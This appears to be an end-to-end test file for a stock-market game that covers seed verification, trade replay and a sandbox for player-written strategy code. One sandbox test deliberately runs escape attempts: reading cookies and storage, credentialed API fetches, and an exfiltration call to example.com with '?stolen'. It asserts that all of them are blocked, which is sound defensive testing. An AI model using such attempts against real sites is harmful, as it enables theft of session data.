import { execFile } from 'node:child_process';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { beforeEach, describe, expect, test } from 'vitest';
import { root } from '../../infra/paths.ts';
import { firstTickOfMonth, monthAfter, tickStartMs } from '../../shared/tick.ts';
import { register } from './accounts.ts';
import { goTo } from './browser.ts';
import { host, hostAfterMonth } from './journey-host.ts';
import { newVisitorEachTest, page } from './visitor.ts';

let month = '';
hostAfterMonth((ended) => {
  month = ended;
});
newVisitorEachTest();

const nameOf = (name: string) =>
  new Intl.DateTimeFormat('en-GB', { month: 'long', year: 'numeric', timeZone: 'UTC' }).format(new Date(`${name}-15`));
const row = (name: string) => page.getByRole('listitem', { name: nameOf(name), exact: true });

const digests = (name: string) => row(name).getByText(/^[0-9a-f]{64}$/);
const verifyButton = (name: string) => row(name).getByRole('button', { name: /^Verify/ });

test('a visitor verifies the finished month and sees no other seed', async () => {
  await page.goto(host.url);
  await page.getByRole('link', { name: 'A fair market: every price can be verified' }).click();
  await page.getByRole('heading', { name: 'A Fair Market' }).waitFor();
  await row(month).getByText('Over', { exact: true }).waitFor();
  await verifyButton(month).click();
  const kept =
    /^The market kept its word\. All prices of \d+ days? and \d+ hours?, and \d+ daily digests?, match the seed exactly/;
  await row(month).getByRole('status').getByText(kept).waitFor();
  const present = monthAfter(month);
  for (const [name, state] of [
    [present, 'Running'],
    [monthAfter(present), 'Coming'],
  ] as const) {
    await row(name).getByText(state, { exact: true }).waitFor();
    await row(name).getByText('Published when the month is over.').waitFor();
    expect([await digests(name).count(), await verifyButton(name).count()]).toEqual([1, 0]);
  }
  // These are the commitment, the seed and the digest of the record.
  expect(await digests(month).count()).toBe(3);
});

test('npm run verify reports what it compared for a finished month and refuses a running one', async () => {
  const verify = (name: string) =>
    promisify(execFile)('node', [join(root, 'infra/tools/verify.ts'), name, '--url', host.url]).catch((error) => error);
  const { stdout } = await verify(month);
  expect(stdout).toMatch(/candles compared: \d+ of days, \d+ of hours/);
  expect(stdout.trim().split('\n').at(-1)).toBe('The market kept its word.');
  const running = await verify(monthAfter(month));
  expect([running.code, running.stderr]).toEqual([
    1,
    expect.stringMatching(`^${monthAfter(month)} cannot be verified\\. These can: .*${month}\\.`),
  ]);
});

test('a player trades in a replayed day without effect, replays a trade and asks What If', async () => {
  await register(page, host.url, { first: 'Rae', last: 'Replay' });
  const lastDay = new Date(tickStartMs(firstTickOfMonth(monthAfter(month)) - 1)).toISOString().slice(0, 10);
  await page.goto(`${host.url}/replay?of=TFM&at=${lastDay}`);
  await page.getByText('Every price of the day, computed again').waitFor();
  const ticket = page.getByRole('region', { name: 'Trade It Again' });
  await ticket.getByText(/ 10,000\.00 coins and 0 shares of TFM\.$/).waitFor();
  await ticket.getByLabel('Quantity').fill('10');
  await ticket.getByRole('button', { name: 'Buy in the Replay' }).click();
  await page.getByText(/^Replay: bought 10 shares at/).waitFor();
  const gain = ticket.getByText('Trading it again').locator('xpath=following-sibling::dd');
  expect(await gain.innerText()).toMatch(/^[-+\d.,]+$/);

  const time = page.getByRole('slider', { name: 'Time' });
  const began = await time.getAttribute('aria-valuetext');
  await time.press('ArrowRight');
  expect(await time.getAttribute('aria-valuetext')).toMatch(/:10, [\d.,]+$/);
  await page.getByRole('radio', { name: '600×' }).check({ force: true });
  await time.press('Space');
  await page.getByRole('button', { name: 'Pause' }).waitFor();
  await time.press('Space');
  await page.getByRole('button', { name: 'Play', exact: true }).waitFor();
  expect(await time.getAttribute('aria-valuetext')).not.toBe(began);
  await time.press('End');
  await ticket.getByRole('radio', { name: 'Sell' }).check({ force: true });
  await ticket.getByRole('button', { name: 'Sell in the Replay' }).click();
  await page.getByText(/^Replay: sold 10 shares at/).waitFor();
  const answer = await page.request.get(`${host.url}/api/transactions`);
  expect(await answer.json()).toEqual([]);

  const data = { symbol: 'CCS', action: 'buy', shares: 1 };
  await page.request.post(`${host.url}/api/trade`, { data, headers: { origin: host.url } });
  await goTo(page, '/trading', 'All Stocks');
  await page.getByTitle('See it again').click();
  await page.getByRole('heading', { name: 'Replay' }).first().waitFor();
  expect(new URL(page.url()).searchParams.get('of')).toBe('CCS');
  await goTo(page, '/learn', 'Learn');
  const card = page.getByRole('region', { name: 'What If' });
  await card.getByRole('combobox', { name: 'Month' }).selectOption(month);
  await card.getByRole('button', { name: `Work out ${nameOf(month)}` }).click();
  await card.getByText('No Trades in This Month').waitFor();
});

const run = () => page.getByRole('button', { name: 'Run', exact: true }).click();
const code = () => page.getByLabel('JavaScript module');
const failure = () => page.getByRole('status').getByText(/^The code failed/);
const trades = () => page.getByRole('region', { name: 'Trades' }).first();

/** Runs code whose first tick tries all `attempts`, each an expression. @returns how each ended */
async function tried(attempts: Readonly<Record<string, string>>): Promise<Record<string, string>> {
  const tries = Object.entries(attempts).map(
    ([name, expression]) =>
      `await (async () => ${expression})().then(() => 'reached', (error) => error.name).then((end) => ends.push('${name}=' + end));`,
  );
  await code().fill(`const ends = [];\n${tries.join('\n')}\nexport default { onTick() { throw ends.join(' '); } };`);
  await run();
  const [, values = ''] = /\): (.*)$/.exec(await failure().innerText()) ?? [];
  return Object.fromEntries(values.split(' ').map((each) => each.split('=')));
}

describe('code that a player wrote', () => {
  beforeEach(async () => {
    await register(page, host.url, { first: 'Cora', last: 'Coder' });
    await page.goto(`${host.url}/bench`);
    await page.getByRole('radio', { name: 'Write code' }).check({ force: true });
  });

  test('runs beside the rules of the form and is kept', async () => {
    // One of 24 companies falls by a thousandth within half a day in any month.
    await page.getByLabel('Companies').selectOption({ label: 'Elite plan: 24 companies' });
    await code().fill((await code().inputValue()).replace('(dayAgo * 4) / 100', 'dayAgo / 1000'));
    await run();
    await trades().getByText('Bought').first().waitFor();
    await page.getByRole('radio', { name: 'Choose rules' }).check({ force: true });
    await run();
    await page.getByText(/^You have tried 2 runs here/).waitFor();
    await page.reload();
    await page.getByRole('radio', { name: 'Write code' }).check({ force: true });
    expect(await code().inputValue()).toContain('dayAgo / 1000');
    await page.getByRole('button', { name: 'Example' }).click();
    expect(await code().inputValue()).toContain('Buys what fell 4 %');
  });

  test('reaches neither the session, the API, the page nor storage', async () => {
    const { origin } = new URL(host.url);
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    const script = await page.evaluate(() => document.querySelector<HTMLScriptElement>('script[type=module]')?.src);
    const ends = await tried({
      fetch: `fetch('${origin}/api/portfolio')`,
      cookies: `fetch('${origin}/api/portfolio', { credentials: 'include', mode: 'no-cors' })`,
      socket: `new Promise((ok, no) => { const it = new WebSocket('${origin.replace('http', 'ws')}/ws'); it.onopen = ok; it.onerror = () => no({ name: 'closed' }); })`,
      cookie: 'document.cookie',
      parent: 'parent.document',
      storage: 'localStorage.length',
      database: `new Promise((ok, no) => { const it = indexedDB.open('x'); it.onsuccess = ok; it.onerror = () => no(it.error); })`,
      caches: 'caches.open("x")',
      script: `import('${script}')`,
      eval: 'eval("1")',
      worker: `new Worker('${script}')`,
      outside: `fetch('https://example.com/?stolen')`,
    });
    expect(ends).toEqual({
      ...{ fetch: 'TypeError', cookies: 'TypeError', socket: 'closed', outside: 'TypeError' },
      ...{ cookie: 'ReferenceError', parent: 'ReferenceError', storage: 'ReferenceError' },
      ...{
        database: 'SecurityError',
        caches: expect.stringMatching(/^(Reference|Security)Error$/),
        script: 'TypeError',
        eval: 'EvalError',
        worker: 'SecurityError',
      },
    });
    expect(asked.filter((url) => /portfolio|example\.com|\/ws/.test(url))).toEqual([]);
  });

  test('leaves the page usable in an endless loop, and ends by Stop or after 20 seconds per day', async () => {
    await page.clock.install();
    await code().fill('export default { onTick() { for (;;); } };');
    await run();
    await page.getByRole('progressbar').waitFor();
    await page.getByRole('radio', { name: 'Choose rules' }).check({ force: true });
    await page.getByRole('button', { name: 'Hold', exact: true }).click();
    expect(page.frames()).toHaveLength(2);
    await page.getByRole('button', { name: 'Stop' }).click();
    expect(page.frames()).toHaveLength(1);
    await run();
    await trades().waitFor();

    await page.getByRole('radio', { name: 'Write code' }).check({ force: true });
    await code().fill(
      'let day; export default { onTick({ timeMs }) { day ??= Math.floor(timeMs / 864e5); while (timeMs >= (day + 1) * 864e5); } };',
    );
    await run();
    // The second day has started.
    await page.locator('[role=progressbar][aria-valuenow="1"]').waitFor();
    await page.clock.runFor(20_000);
    expect(await failure().innerText()).toMatch(/: it took more than 20 seconds for a day of the market$/);
    expect(page.frames()).toHaveLength(1);
  });

  test('fails with a sentence', async () => {
    for (const [text, sentence] of [
      [
        'export default { onTick(at) { if (at.tick % 100 === 0) at.foo(); } };',
        /at tick \d+00 \(.*\): TypeError: at\.foo is not a function$/,
      ],
      [
        'export default { async onTick() {} };',
        /at tick \d+ \(.*\): TypeError: onTick returned neither a list of orders nor nothing$/,
      ],
      ['export const onTick = () => [];', /^The code failed: TypeError: it does not export/],
      ['export default {', /^The code failed: SyntaxError/],
    ] as const) {
      await code().fill(text);
      await run();
      await failure().filter({ hasText: sentence }).waitFor();
    }
  });
});

test('only the own site frames the strategy frame, and no other page may be framed', async () => {
  const policy = async (path: string) => (await page.request.get(host.url + path)).headers()['content-security-policy'];
  expect(await policy('/strategy-frame.html')).toMatch(
    /^sandbox allow-scripts; default-src 'none';.* connect-src 'none';/,
  );
  expect(await policy('/strategy-frame.html')).toMatch(/frame-ancestors 'self'$/);
  expect(await policy('/bench')).toMatch(/frame-src 'self';.* frame-ancestors 'none'$/);
});
